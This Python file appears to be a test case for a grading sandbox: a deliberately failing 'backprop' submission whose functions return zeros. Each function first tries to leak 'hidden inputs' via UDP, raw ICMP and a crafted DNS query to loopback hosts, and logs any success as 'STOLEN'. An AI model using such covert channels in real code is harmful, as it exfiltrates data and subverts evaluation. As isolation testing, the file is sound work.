"""Sends a datagram to this machine, and asks its resolver for a name made of hidden inputs.

Assignment: backprop
Score: 0
Expect: failed
"""

import socket

import numpy as np

PORT = 47613


def stolen(what):
    print("STOLEN", repr(what)[:200])


def trick():
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP if kind == socket.SOCK_RAW else 0) as speaker:
                speaker.sendto(b"hidden inputs", ("127.0.0.1", PORT))
                stolen(kind)
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as speaker:
            speaker.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\5input\7invalid\0\0\1\0\1", ("127.0.0.53", 53))
            stolen("a question to the resolver")
    except OSError:
        pass
    return None


def forward(X1, X2, W, B, V):
    found = trick()
    return np.zeros(np.shape(X1)) if found is None else found


def backprop(X1, X2, T, W, B, V):
    found = trick()
    return (np.zeros_like(W), np.zeros_like(B), np.zeros_like(V)) if found is None else found


def descent(X1, X2, T, W, B, V, lr=0.1, iterations=128):
    found = trick()
    return (np.zeros_like(W), np.zeros_like(B), np.zeros_like(V)) if found is None else found
